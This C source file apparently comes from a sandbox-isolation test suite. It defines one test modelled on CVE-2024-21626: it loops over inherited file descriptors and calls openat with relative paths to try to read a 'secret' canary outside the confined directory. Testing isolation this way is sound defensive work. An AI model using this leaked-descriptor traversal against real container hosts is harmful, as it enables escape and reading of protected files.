/* By a directory that was left open. */
#include "dots.h"

#include <fcntl.h>

ATTACK(FILES, "root", .gain = "every file, by one descriptor that was not closed",
       .source = "CVE-2024-21626", .works = SOME_KERNELS,
       .needs = "a descriptor of a directory of the caller's")
{
	for (int fd = 0; fd < 1024; fd++)
		if (read_canary(openat(fd, target("secret") + 1, O_RDONLY | O_CLOEXEC)) == 0 ||
		    read_canary(openat(fd, dots_to_secret(), O_RDONLY | O_CLOEXEC)) == 0)
			return 0;
	return denied(EBADF);
}
